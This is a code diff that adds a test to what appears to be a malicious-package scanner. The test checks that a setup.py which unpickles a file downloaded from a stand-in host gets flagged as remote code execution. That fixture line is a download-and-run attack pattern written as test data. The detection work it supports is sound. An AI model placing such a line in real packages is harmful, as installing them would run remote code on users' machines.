@@ -190,3 +190,14 @@ def test_npm_install_script_padded_past_the_parse_limit_still_reports_its_calls(
     evidence = run_rule(engine, suspicious_setup_commands_rule, archive)
     assert evidence is not None
     assert "process" in _types(evidence)
+
+
+def test_setup_py_unpickling_a_download_runs_remote_code(engine: Engine) -> None:
+    """A pickle runs a callable of its author's choice as it loads (``__reduce__``)."""
+    setup_py = (
+        "import pickle, urllib.request\n"
+        "cfg = pickle.loads(urllib.request.urlopen('https://x.example.net/build.cfg').read())\n"
+        "from setuptools import setup\nsetup(name='x', version='1')\n"
+    )
+    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
+    assert "remote_code_execution" in _types(evidence)
